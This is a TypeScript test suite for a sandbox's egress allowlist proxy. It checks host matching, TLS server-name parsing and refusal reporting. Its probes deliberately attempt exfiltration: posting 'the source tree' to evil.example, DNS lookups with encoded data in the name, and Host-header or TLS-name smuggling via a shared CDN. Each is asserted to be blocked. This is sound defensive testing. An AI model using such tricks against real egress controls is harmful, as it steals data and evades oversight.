import { execFile } from 'node:child_process';
import { request } from 'node:http';
import type { Socket } from 'node:net';
import { Duplex } from 'node:stream';
import { connect as tlsConnect } from 'node:tls';
import { copyFile, mkdir, mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ConfigError, parseConfig } from '../../../src/config/schema';
import { DEFAULT_HOSTS, hostAllowed, hostEntryProblem, MAX_COUNTED_HOSTS, OTHER_HOSTS } from '../../../src/domain/egress';
import type { Log, WorkingCopy } from '../../../src/ports';
import { prepareSandbox, prepareUserNamespace } from '../../../src/sandbox/command-runner';
import { readClientHello } from '../../../src/sandbox/egress/client-hello';
import { startEgressProxy, type EgressProxy } from '../../../src/sandbox/egress/proxy';
import { refusedLines } from '../../../src/render/report';
import { DEFAULT_NETWORK, refusalLine, type NetworkConfig } from '../../../src/toolbox/egress';
import { prepareTools } from '../../../src/toolbox/sandbox-setup';
import { collector, serving, startEgressWorld, type EgressWorld } from '../../support/egress/world';
import { git } from '../../support/git-cli';
import { deepFolder, exitDelay, NODE24_SOCKETS } from '../../support/sandbox/deep-temp';

describe('the allowlist (domain/egress.ts, network.allow)', () => {
  it('matches hosts exactly, and subdomains only under a `*.` entry', () => {
    expect(hostAllowed(['registry.npmjs.org'], 'REGISTRY.npmjs.org.')).toBe(true);
    expect(hostAllowed(['registry.npmjs.org'], 'evil.registry.npmjs.org')).toBe(false);
    expect(hostAllowed(['registry.npmjs.org'], 'registry.npmjs.org.evil.example')).toBe(false);
    expect(hostAllowed(['*.acme.test'], 'npm.acme.test')).toBe(true);
    expect(hostAllowed(['*.acme.test'], 'acme.test')).toBe(false);
    expect(hostAllowed(['*.acme.test'], 'evilacme.test')).toBe(false);
    for (const h of [
      'registry.npmjs.org',
      'pypi.org',
      'files.pythonhosted.org',
      'static.crates.io',
      'proxy.golang.org',
      'sum.golang.org',
      'rubygems.org',
      'repo.maven.apache.org',
      'github.com',
      'codeload.github.com',
    ])
      expect(DEFAULT_HOSTS).toContain(h);
  });

  it('a bad entry in network.allow is named with what to write instead', () => {
    expect(hostEntryProblem('npm.acme.test')).toBeNull();
    expect(hostEntryProblem('*.acme.test')).toBeNull();
    expect(hostEntryProblem('https://npm.acme.test')).toMatch(/without a scheme/);
    expect(hostEntryProblem('npm.acme.test:8080')).toMatch(/without a port or a path/);
    expect(hostEntryProblem('*')).not.toBeNull();
    expect(hostEntryProblem('a.*.test')).not.toBeNull();
    expect(() => parseConfig('network:\n  allow: [https://npm.acme.test/]\n')).toThrow(ConfigError);
    expect(() => parseConfig('network:\n  allow: [https://npm.acme.test/]\n')).toThrow(/network\.allow.*https:\/\/npm\.acme\.test\/.*without a scheme/s);
    expect(() => parseConfig('network:\n  tools: open\n')).toThrow(/network\.tools/);
    expect(parseConfig('').network).toEqual(DEFAULT_NETWORK);
  });
});

/** One request through the proxy's socket, as the sandbox's forwarder hands it on. `headers`: raw, replacing the Host of the URL. */
function viaSocket(proxy: EgressProxy, opts: { method: string; path: string; body?: string; headers?: string[] }): Promise<{ status: number; text: string }> {
  return new Promise((resolve, reject) => {
    const headers = opts.headers ?? ['Host', new URL(opts.path).host];
    const req = request({ socketPath: proxy.socket, method: opts.method, path: opts.path, headers, setHost: false }, (res) => {
      let text = '';
      res.on('data', (c) => (text += c));
      res.on('end', () => resolve({ status: res.statusCode!, text }));
    });
    req.on('error', reject);
    req.end(opts.body);
  });
}

type Inside = { status: number; inside?: string; error?: string };

/**
 * A CONNECT through the proxy's socket, then one GET inside: plain (`sni` undefined), or in TLS that names
 * `sni` ('' for no name). What the site answered, or the proxy's status, or how TLS failed.
 */
function tunnelVia(proxy: EgressProxy, target: string, sni?: string): Promise<Inside> {
  return new Promise((resolve, reject) => {
    const req = request({ socketPath: proxy.socket, method: 'CONNECT', path: target });
    req.on('connect', (res, socket: Socket) => {
      if (res.statusCode !== 200) {
        socket.destroy();
        return resolve({ status: res.statusCode! });
      }
      const get = `GET /inside HTTP/1.1\r\nHost: ${sni || target}\r\nConnection: close\r\n\r\n`;
      // The CDN stand-in's certificate is made for the test: what matters is which site the edge picked.
      const inside: Socket = sni === undefined ? socket : tlsConnect({ socket, servername: sni, rejectUnauthorized: false }, () => inside.write(get));
      if (sni === undefined) socket.write(get);
      let text = '';
      inside.on('data', (c) => (text += c));
      inside.on('end', () => resolve({ status: 200, inside: text.split('\r\n\r\n')[1] }));
      inside.on('error', (e: NodeJS.ErrnoException) => resolve({ status: 200, error: e.code ?? e.message }));
    });
    req.on('error', reject);
    req.end();
  });
}

const connectVia = (proxy: EgressProxy, target: string) => tunnelVia(proxy, target);
const tlsVia = (proxy: EgressProxy, target: string, sni: string) => tunnelVia(proxy, target, sni);

/** The first bytes Node's own TLS client sends for `sni` ('' for no name): its ClientHello, in one record. */
function helloRecords(sni: string): Promise<Buffer> {
  return new Promise((resolve) => {
    const fake = new Duplex({
      read: () => undefined,
      write: (chunk: Buffer, _enc, done) => {
        resolve(chunk);
        done();
      },
    });
    tlsConnect({ socket: fake as never, servername: sni, rejectUnauthorized: false }).on('error', () => undefined);
  });
}

describe('the ClientHello reader (client-hello.ts)', () => {
  it('finds the server name in Node’s own ClientHello, whole, split across records, or cut short', async () => {
    const hello = await helloRecords('registry.npmjs.org');
    expect(readClientHello(hello)).toEqual({ kind: 'hello', serverName: 'registry.npmjs.org', encryptedHello: false });
    expect(readClientHello(hello.subarray(0, hello.length - 1))).toEqual({ kind: 'more' });
    // The same handshake message in two records of 100 bytes and the rest.
    const body = hello.subarray(5);
    const record = (part: Buffer) => Buffer.concat([Buffer.from([22, 3, 1, part.length >> 8, part.length & 255]), part]);
    expect(readClientHello(Buffer.concat([record(body.subarray(0, 100)), record(body.subarray(100))]))).toMatchObject({ serverName: 'registry.npmjs.org' });
    expect(readClientHello(Buffer.from('GET / HTTP/1.1\r\nHost: attacker.example\r\n\r\n'))).toEqual({
      kind: 'refused',
      why: 'the tunnel does not start with TLS',
    });
    expect(readClientHello(await helloRecords(''))).toEqual({ kind: 'hello', serverName: null, encryptedHello: false });
  });
});

describe('crew’s egress proxy (proxy-chain behind a Unix socket)', () => {
  let world: EgressWorld;
  let dir: string;
  let proxy: EgressProxy;
  const refusedLog: string[] = [];

  beforeAll(async () => {
    world = await startEgressWorld({ 'files.acme.test': serving('allowed bytes'), 'evil.example': collector, 'metadata.acme.test': serving('never') });
    dir = await mkdtemp(join(tmpdir(), 'egress-proxy-'));
    proxy = await startEgressProxy({
      allow: ['files.acme.test', 'metadata.acme.test'],
      resolver: world.resolver,
      onRefused: (host, port, how, named) => refusedLog.push(`${how} ${host}:${port}${named ? ` ${named}` : ''}`),
    });
  });
  afterAll(async () => {
    await proxy.close();
    await world.close();
    await rm(dir, { recursive: true, force: true });
  });

  it('lets an allowed host through by name as an absolute-URI request, resolving it itself; a tunnel that does not carry TLS is refused', async () => {
    const got = await viaSocket(proxy, { method: 'GET', path: 'http://files.acme.test/data.txt' });
    expect(got).toEqual({ status: 200, text: 'allowed bytes' });
    // Plain HTTP inside a tunnel would choose its site by a Host header the proxy never sees.
    expect(await connectVia(proxy, 'files.acme.test:80')).toEqual({ status: 200, inside: undefined });
    expect(world.hosts.get('files.acme.test')!.reached.map((r) => `${r.method} ${r.url}`)).toEqual(['GET /data.txt']);
    expect(world.queries).toContain('files.acme.test');
    expect(proxy.refused()).toEqual({ 'files.acme.test (the tunnel does not start with TLS)': 1 });
    expect(refusedLog.splice(0)).toEqual(['CONNECT files.acme.test:80 (the tunnel does not start with TLS)']);
  });

  it('refuses every other host with 403 and how to allow it, counts it by host, and never looks its name up', async () => {
    const posted = await viaSocket(proxy, { method: 'POST', path: 'http://evil.example/collect', body: 'the source tree' });
    expect(posted.status).toBe(403);
    expect(posted.text).toContain("crew's egress allowlist refused evil.example");
    expect(posted.text).toContain('network.allow in .github/crew.yml');
    expect(await connectVia(proxy, 'evil.example:443')).toEqual({ status: 403 });
    expect(await connectVia(proxy, 'c2VjcmV0.evil.example:443')).toEqual({ status: 403 });
    expect(world.hosts.get('evil.example')!.reached).toEqual([]);
    expect(world.queries.filter((q) => q.includes('evil'))).toEqual([]);
    expect(proxy.refused()).toMatchObject({ 'evil.example': 2, 'c2vjcmv0.evil.example': 1 });
    expect(refusedLog).toEqual(['HTTP evil.example:80', 'CONNECT evil.example:443', 'CONNECT c2vjcmv0.evil.example:443']);
  });

  it('counts a flood of names in bounded space', async () => {
    const flood = await startEgressProxy({ allow: [] });
    try {
      for (let i = 0; i < MAX_COUNTED_HOSTS + 10; i++) expect((await connectVia(flood, `n${i}.evil.example:443`)).status).toBe(403);
      const counted = flood.refused();
      expect(Object.keys(counted)).toHaveLength(MAX_COUNTED_HOSTS + 1);
      expect(counted[OTHER_HOSTS]).toBe(10);
    } finally {
      await flood.close();
    }
  });
});

describe('what the proxy forwards to an allowed host on a CDN edge that also serves an attacker’s site (#46)', () => {
  let world: EgressWorld;
  let proxy: EgressProxy;
  const logged: string[] = [];

  beforeAll(async () => {
    world = await startEgressWorld(
      { 'registry.npmjs.org': serving('the registry'), 'attacker.example': collector },
      { cdn: ['registry.npmjs.org', 'attacker.example'] },
    );
    proxy = await startEgressProxy({
      allow: ['registry.npmjs.org'],
      resolver: world.resolver,
      onRefused: (host, port, how, named) => logged.push(refusalLine(host, port, how, named)),
    });
  });
  afterAll(async () => {
    await proxy.close();
    await world.close();
  });

  it('a plain request to the registry’s name whose Host names another site is refused before anything is sent, and listed', async () => {
    const posted = await viaSocket(proxy, {
      method: 'POST',
      path: 'http://registry.npmjs.org/-/collect',
      body: 'the source tree',
      headers: ['Host', 'attacker.example'],
    });
    expect(posted.status).toBe(403);
    expect(posted.text).toContain('its Host header names attacker.example');
    // Two Host headers (an edge may read either), or none: refused too.
    const twice = await viaSocket(proxy, {
      method: 'POST',
      path: 'http://registry.npmjs.org/',
      body: 'x',
      headers: ['Host', 'registry.npmjs.org', 'Host', 'attacker.example'],
    });
    expect(twice.status).toBe(403);
    // No Host at all: Node's own parser answers 400 before crew sees it (requireHostHeader); the request goes nowhere either way.
    expect((await viaSocket(proxy, { method: 'GET', path: 'http://registry.npmjs.org/', headers: [] })).status).toBe(400);
    expect(world.edge!.connections).toEqual([]);
    expect(world.hosts.get('attacker.example')!.reached).toEqual([]);
    expect(proxy.refused()).toMatchObject({
      'attacker.example (via registry.npmjs.org)': 1,
      'registry.npmjs.org (2 Host headers)': 1,
    });
    expect(logged).toContain(
      'egress: refused an HTTP request to registry.npmjs.org:80: its Host header names attacker.example (a request reaches only the host it is sent to)',
    );
    // The pull request's list names the site the code tried to reach, and where it sent it.
    expect(refusedLines(proxy.refused()).join('\n')).toContain('- `attacker.example (via registry.npmjs.org)`: 1 request');
  });

  it('a tunnel to the registry’s name whose TLS names another site, or none, is refused before the edge is connected to, and listed', async () => {
    const other = await tlsVia(proxy, 'registry.npmjs.org:443', 'attacker.example');
    expect(other.inside).toBeUndefined();
    expect(other.error).toBeTruthy();
    expect((await tlsVia(proxy, 'registry.npmjs.org:443', '')).inside).toBeUndefined();
    expect(world.edge!.connections).toEqual([]);
    expect(world.hosts.get('attacker.example')!.reached).toEqual([]);
    expect(proxy.refused()).toMatchObject({ 'attacker.example (via registry.npmjs.org)': 2, 'registry.npmjs.org (no TLS server name)': 1 });
    expect(logged).toContain(
      'egress: refused CONNECT to registry.npmjs.org:443: the TLS inside it names attacker.example (a request reaches only the host it is sent to)',
    );
  });

  it('the registry itself is still reached, over plain HTTP and through a tunnel that names it', async () => {
    expect(await viaSocket(proxy, { method: 'GET', path: 'http://registry.npmjs.org/left-pad' })).toEqual({ status: 200, text: 'the registry' });
    expect(await tlsVia(proxy, 'registry.npmjs.org:443', 'registry.npmjs.org')).toEqual({ status: 200, inside: 'the registry' });
    const reached = world.hosts.get('registry.npmjs.org')!.reached;
    expect(reached.map((r) => `${r.method} ${r.url} ${r.sni ?? '-'}`)).toEqual(['GET /left-pad -', 'GET /inside registry.npmjs.org']);
    expect(world.edge!.connections).toEqual([{ port: 80 }, { port: 443 }]);
  });
});

describe('model-written setup and commands in the real sandbox, with the allowlist', () => {
  let world: EgressWorld;
  let temp: string;
  let ws: string;
  const infos: string[] = [];
  const warnings: string[] = [];
  const log: Log = { info: (m) => void infos.push(m), warn: (m) => void warnings.push(m), checkpoint: () => undefined };
  const ctx = () => ({ repo: { dir: ws } as WorkingCopy, log });
  const network = (over: Partial<NetworkConfig> = {}): NetworkConfig => ({ ...DEFAULT_NETWORK, allow: ['files.acme.test'], ...over });
  const config = (setup: string[], over: Partial<NetworkConfig> = {}) => ({
    setup,
    command_timeout_seconds: 30,
    allow_unsandboxed: false,
    network: network(over),
  });
  const probe = (...what: string[]) => `node net-probe.cjs ${what.map((w) => `'${w}'`).join(' ')}`;
  const lines = (text: string) =>
    Object.fromEntries(
      text
        .split('\n')
        .filter((l) => l.startsWith('{'))
        .map((l) => JSON.parse(l) as { what: string })
        .map((o) => [o.what, o]),
    ) as Record<string, Record<string, unknown>>;

  beforeAll(async () => {
    world = await startEgressWorld({ 'files.acme.test': serving('allowed bytes'), 'evil.example': collector });
    process.env.CREW_EGRESS_RESOLVER = world.resolver;
    temp = await mkdtemp(join(tmpdir(), 'egress-sandbox-'));
    ws = join(temp, 'ws');
    await mkdir(ws);
    await git(['init', '--quiet', ws]);
    await copyFile(join(__dirname, '..', '..', 'support', 'egress', 'net-probe.cjs'), join(ws, 'net-probe.cjs'));
  });
  afterAll(async () => {
    delete process.env.CREW_EGRESS_RESOLVER;
    await world.close();
    await rm(temp, { recursive: true, force: true });
  });

  it('setup reaches an allowed host by name and nothing else: other hosts are refused and counted, direct connections and DNS fail', async () => {
    const evil = world.hosts.get('evil.example')!.address;
    const r = await prepareTools(
      ctx(),
      config([
        `${probe('get|http://files.acme.test/data.txt', 'connect|files.acme.test:80', 'post|http://evil.example/collect|tree', 'connect|evil.example:443', `tcp|${evil}|80`, 'lookup|exfil-c2VjcmV0.evil.example', `resolve|${world.resolver}|exfil-c2VjcmV0.evil.example`, 'lookup|files.acme.test')} > setup.out`,
      ]),
      { trusted: false },
    );
    try {
      expect(r.setupFailure).toBeNull();
      expect(r.egress!.mode).toBe('allowlist');
      expect(infos.some((l) => l.startsWith('setup (on a model-written tree, inside the sandbox, through the egress allowlist): node net-probe.cjs'))).toBe(
        true,
      );
      const out = lines(await readFile(join(ws, 'setup.out'), 'utf8'));
      expect(out['get|http://files.acme.test/data.txt']).toMatchObject({ status: 200, text: 'allowed bytes' });
      // A tunnel carries TLS that names its host, or nothing: plain HTTP inside one would pick its site by a Host the proxy never saw.
      expect(out['connect|files.acme.test:80']!.inside).toBeUndefined();
      expect(out['post|http://evil.example/collect|tree']).toMatchObject({ status: 403 });
      expect(out['connect|evil.example:443']).toMatchObject({ status: 403 });
      // Around the proxy: crew's machine's addresses are not routed from the sandbox's namespace, and it has no resolver.
      expect(out[`tcp|${evil}|80`]!.connected).toBeUndefined();
      expect(out['lookup|exfil-c2VjcmV0.evil.example']!.error).toBeTruthy();
      expect(out[`resolve|${world.resolver}|exfil-c2VjcmV0.evil.example`]!.error).toBeTruthy();
      // Even an allowed name does not resolve inside: only the proxy looks names up.
      expect(out['lookup|files.acme.test']!.error).toBeTruthy();
      expect(world.hosts.get('evil.example')!.reached).toEqual([]);
      expect(world.queries.filter((q) => q.includes('evil'))).toEqual([]);
      expect(r.egress!.refused()).toEqual({ 'evil.example': 2, 'files.acme.test (the tunnel does not start with TLS)': 1 });
      // The start-of-job line names the egress mode.
      expect(infos.some((l) => l.startsWith('run_command is sandboxed') && l.includes('egress: allowlist.'))).toBe(true);
      // The agents' own commands have no network by default, not even the proxy.
      const agent = await r.runner!.run(probe('get|http://files.acme.test/data.txt', 'tcp|127.0.0.1|3128'), {
        cwd: ws,
        timeoutMs: 20_000,
        maxOutputBytes: 10_000,
      });
      expect(lines(agent.output)['get|http://files.acme.test/data.txt']!.error).toBeTruthy();
      expect(lines(agent.output)['tcp|127.0.0.1|3128']!.connected).toBeUndefined();
    } finally {
      await r.egress?.close();
    }
  });

  it('a setup script that reaches for another site on an allowed registry’s CDN, by Host and by TLS name, sends nothing there, and both are listed as refused (#46)', async () => {
    const cdn = await startEgressWorld(
      { 'registry.npmjs.org': serving('the registry'), 'attacker.example': collector },
      { cdn: ['registry.npmjs.org', 'attacker.example'] },
    );
    process.env.CREW_EGRESS_RESOLVER = cdn.resolver;
    warnings.length = 0;
    try {
      const r = await prepareTools(
        ctx(),
        config([`${probe('posthost|http://registry.npmjs.org/-/collect|attacker.example|the tree', 'tls|registry.npmjs.org:443|attacker.example')} > cdn.out`]),
        { trusted: false },
      );
      try {
        expect(r.setupFailure).toBeNull();
        expect(r.egress!.mode).toBe('allowlist');
        const out = lines(await readFile(join(ws, 'cdn.out'), 'utf8'));
        expect(out['posthost|http://registry.npmjs.org/-/collect|attacker.example|the tree']).toMatchObject({ status: 403 });
        expect(out['tls|registry.npmjs.org:443|attacker.example']!.inside).toBeUndefined();
        expect(cdn.edge!.connections).toEqual([]);
        expect(cdn.hosts.get('attacker.example')!.reached).toEqual([]);
        expect(r.egress!.refused()).toEqual({ 'attacker.example (via registry.npmjs.org)': 2 });
        expect(refusedLines(r.egress!.refused())).toContain('  - `attacker.example (via registry.npmjs.org)`: 2 requests');
        expect(refusedLines(r.egress!.refused()).join('\n')).toContain('was refused whatever `network.allow` says');
        expect(refusedLines({ 'evil.example': 1 }).join('\n')).not.toContain('whatever `network.allow` says');
        expect(warnings).toEqual([
          'egress: refused an HTTP request to registry.npmjs.org:80: its Host header names attacker.example (a request reaches only the host it is sent to)',
          'egress: refused CONNECT to registry.npmjs.org:443: the TLS inside it names attacker.example (a request reaches only the host it is sent to)',
        ]);
      } finally {
        await r.egress?.close();
      }
    } finally {
      process.env.CREW_EGRESS_RESOLVER = world.resolver;
      await cdn.close();
    }
  });

  it('network.tools: allowlist gives the agents’ commands the same allowlist', async () => {
    const r = await prepareTools(ctx(), config([], { tools: 'allowlist' }), { trusted: true });
    try {
      expect(r.egress!.tools).toBe('allowlist');
      const run = await r.runner!.run(probe('get|http://files.acme.test/data.txt', 'get|http://evil.example/'), {
        cwd: ws,
        timeoutMs: 20_000,
        maxOutputBytes: 10_000,
      });
      const out = lines(run.output);
      expect(out['get|http://files.acme.test/data.txt']).toMatchObject({ status: 200, text: 'allowed bytes' });
      expect(out['get|http://evil.example/']).toMatchObject({ status: 403 });
      expect(r.egress!.refused()).toEqual({ 'evil.example': 1 });
    } finally {
      await r.egress?.close();
    }
  });

  it('a setup that fails after a refusal names the refused host and how to allow it', async () => {
    const r = await prepareTools(ctx(), config([`${probe('get|http://evil.example/pkg.tgz')}; exit 1`]), { trusted: false });
    await r.egress?.close();
    expect(r.setupFailure).toMatch(
      /^the setup command `.*` exited with 1: .*\. crew's egress proxy refused evil\.example \(1\) meanwhile: if the repository needs that host, add it to network\.allow in \.github\/crew\.yml$/,
    );
  });

  it('local mode’s user-namespace sandbox takes the same route: an allowed host by name, nothing else', async () => {
    const proxy = await startEgressProxy({ allow: ['files.acme.test'], resolver: world.resolver });
    try {
      const prepared = await prepareUserNamespace(ws, join(temp, 'userns'), { socket: proxy.socket });
      if (!('runner' in prepared)) throw new Error(`this machine allows user namespaces, yet: ${prepared.reason}`);
      expect(prepared.egressProblem).toBeUndefined();
      const run = await prepared.runner.run(
        probe('get|http://files.acme.test/data.txt', 'post|http://evil.example/collect|tree', 'lookup|exfil.evil.example'),
        {
          cwd: ws,
          timeoutMs: 20_000,
          maxOutputBytes: 10_000,
          network: 'allowlist',
        },
      );
      const out = lines(run.output);
      expect(out['get|http://files.acme.test/data.txt']).toMatchObject({ status: 200, text: 'allowed bytes' });
      expect(out['post|http://evil.example/collect|tree']).toMatchObject({ status: 403 });
      expect(out['lookup|exfil.evil.example']!.error).toBeTruthy();
      expect(proxy.refused()).toEqual({ 'evil.example': 1 });
    } finally {
      await proxy.close();
    }
  });

  describe('where the sandbox cannot reach the proxy', () => {
    // The real sandbox, handed a route whose socket does not exist: the forwarder's check fails.
    const broken = (workspace: string, tempDir: string, route?: { socket: string }) =>
      prepareSandbox(workspace, tempDir, route ? { socket: join(tempDir, 'no-such-proxy.sock') } : undefined);

    it('setup runs without network, says why at the start of the job, and a failure says how to allow it', async () => {
      warnings.length = 0;
      const r = await prepareTools(ctx(), config([`${probe('get|http://files.acme.test/data.txt')} > offline.out; exit 2`]), { trusted: false }, [broken]);
      expect(r.egress!.mode).toBe('offline');
      expect(r.egress!.problem).toMatch(/could not reach crew's egress proxy \(crew: the egress route could not be set up \(the proxy socket: ENOENT\)\)/);
      expect(warnings.some((w) => w.startsWith("crew's egress allowlist could not be set up"))).toBe(true);
      // No proxy variables, no resolver, no route: the name does not even resolve.
      expect(lines(await readFile(join(ws, 'offline.out'), 'utf8'))['get|http://files.acme.test/data.txt']!.error).toBeTruthy();
      expect(r.setupFailure).toMatch(
        /exited with 2: \. It ran without network, because crew's egress allowlist could not be set up here \(.*\)\. .*set network\.fallback: open in \.github\/crew\.yml/,
      );
      expect(r.warning).toBeNull();
    });

    it('with network.fallback: open it has the runner’s network, and says so loudly', async () => {
      const r = await prepareTools(
        ctx(),
        config([`${probe(`tcp|${world.hosts.get('files.acme.test')!.address}|80`)} > open.out`], { fallback: 'open' }),
        { trusted: false },
        [broken],
      );
      expect(r.egress!.mode).toBe('open');
      expect(lines(await readFile(join(ws, 'open.out'), 'utf8'))[`tcp|${world.hosts.get('files.acme.test')!.address}|80`]).toMatchObject({ connected: true });
      expect(r.warning).toMatch(/^model-written setup had the runner's network, unfiltered \(network.fallback: open; /);
      expect(infos.some((l) => l.includes('egress: OPEN.'))).toBe(true);
    });
  });
});

describe('with a runner temp folder 150 characters deep, which TMPDIR names too, as root (#46)', () => {
  let world: EgressWorld;
  let top: string;
  let deep: string;
  let ws: string;
  const repoRoot = join(__dirname, '..', '..', '..');

  beforeAll(async () => {
    world = await startEgressWorld({ 'files.acme.test': serving('allowed bytes'), 'evil.example': collector });
    top = await mkdtemp(join(tmpdir(), 'egress-deep-'));
    deep = await deepFolder(top, 150);
    ws = join(deep, 'ws');
    await mkdir(ws);
    await git(['init', '--quiet', ws]);
    await copyFile(join(__dirname, '..', '..', 'support', 'egress', 'net-probe.cjs'), join(ws, 'net-probe.cjs'));
  });
  afterAll(async () => {
    await world.close();
    await rm(top, { recursive: true, force: true });
  });

  /** crew's code in a process of its own, as in a job: Node 24's socket rules, the deep folder as RUNNER_TEMP and TMPDIR. */
  function run(script: string, args: string[], env: Record<string, string> = {}): Promise<{ stdout: string; endedAt: number }> {
    return new Promise((resolve, reject) =>
      execFile(
        process.execPath,
        [...NODE24_SOCKETS, '--import', 'tsx', join(repoRoot, 'tests', 'support', 'sandbox', script), ...args],
        { cwd: repoRoot, env: { PATH: process.env.PATH ?? '', HOME: process.env.HOME ?? '/root', TMPDIR: deep, RUNNER_TEMP: deep, ...env }, timeout: 30_000 },
        (e, stdout, stderr) => (e ? reject(new Error(`${e.message}\n${stdout}\n${stderr}`)) : resolve({ stdout, endedAt: Date.now() })),
      ),
    );
  }

  it('the allowlist still starts: its socket goes in a short private folder, and setup reaches an allowed host', async () => {
    const { stdout } = await run('probe.ts', ['allowlist', ws, deep, `node net-probe.cjs 'get|http://files.acme.test/data.txt'`], {
      CREW_PROBE_ALLOW: 'files.acme.test',
      ...world.env,
    });
    expect(stdout).toContain('"status":200');
    expect(stdout).toContain('allowed bytes');
  });

  it('a job whose proxy is made to fail falls back to setup without network and exits within seconds of its last line', async () => {
    const { stdout, endedAt } = await run('job-probe.ts', [ws, deep, 'echo setup-ran'], { CREW_TEST_UNIX_LISTEN_FAULT: '1' });
    expect(stdout).toContain("crew's egress allowlist could not be set up: crew's egress proxy did not start (listen EACCES");
    expect(stdout).toContain('::mode offline setup ok');
    expect(exitDelay(stdout, endedAt)).toBeLessThan(5_000);
  });
});
